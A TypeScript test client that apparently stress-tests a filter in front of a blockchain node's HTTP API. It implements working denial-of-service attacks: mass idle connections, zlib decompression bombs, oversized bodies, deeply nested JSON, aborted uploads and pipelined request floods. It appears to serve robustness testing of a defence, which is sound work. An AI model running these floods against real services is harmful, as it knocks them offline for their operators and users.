// One attacking client as a process: `node attacker.ts KIND HOST PORT`, until it is ended. Every kind is bounded
// in connections and sends to the given address only.
import { connect, type Socket } from 'node:net'
import { deflateSync } from 'node:zlib'

const [kind = '', host = '127.0.0.1', port = '0'] = process.argv.slice(2)

/** An address that the filter takes for a client's own; what comes from others might be of many clients. */
const DIRECT = '127.0.0.3'

function open(localAddress?: string): Socket {
  const socket = connect({ host, port: Number(port), localAddress })
  socket.on('error', () => {})
  return socket
}

function post(path: string, body: string): string {
  return `POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n${body}`
}

/** Keeps a number of connections busy with the same request, each sending it again when it was answered. */
function flood(connections: number, request: string): void {
  const bytes = Buffer.from(request)
  const one = () => {
    const socket = open()
    socket.on('connect', () => socket.write(bytes))
    socket.on('data', () => socket.write(bytes))
    socket.on('close', () => setTimeout(one, 20))
  }
  for (let left = connections; left > 0; left--) one()
}

const push = '/v1/chain/push_transaction'
const envelope = (packed: string) =>
  `{"signatures":["SIG_K1_x"],"compression":"zlib","packed_context_free_data":"","packed_trx":"${packed}"}`

const kinds: Record<string, () => void> = {
  /** Connections that never say anything, opened again when they are closed. */
  idle: () => {
    const one = () => open().on('close', () => setTimeout(one, 100))
    for (let left = 5_000; left > 0; left--) one()
  },
  /** 100 MB of zeros in 97 kB, inside a body of 200 kB. */
  'zlib bombs': () => flood(50, post(push, envelope(deflateSync(Buffer.alloc(100_000_000)).toString('hex')))),
  'bodies of 2 MiB': () => flood(50, post(push, envelope('00'.repeat(1_048_400)))),
  'deep nesting': () => flood(50, post(push, '['.repeat(1_000_000))),
  /** Half of the clients go in the middle of the body, half right after it. */
  'aborting clients': () => {
    const whole = post(push, envelope('00'.repeat(50_000)))
    const one = (half: boolean) => {
      const socket = open()
      socket.on('connect', () => {
        socket.write(half ? whole.slice(0, whole.length / 2) : whole)
        setTimeout(() => socket.resetAndDestroy(), 5)
      })
      socket.on('close', () => setTimeout(one, 10, half))
    }
    for (let left = 100; left > 0; left--) one(left % 2 === 0)
  },
  /** 50 connections, each with 1,400 requests before it reads an answer. */
  'requests sent ahead': () => {
    const bytes = Buffer.from('GET /v1/chain/get_info HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(1_400))
    const one = () => {
      const socket = open(DIRECT)
      socket.on('connect', () => socket.write(bytes))
      socket.on('drain', () => socket.write(bytes))
      socket.on('data', () => {})
      socket.on('close', () => setTimeout(one, 20))
    }
    for (let left = 50; left > 0; left--) one()
  },
}

const attack = kinds[kind]
if (!attack) throw new Error(`kind: found "${kind}"; allowed: ${Object.keys(kinds).join(', ')}`)
attack()
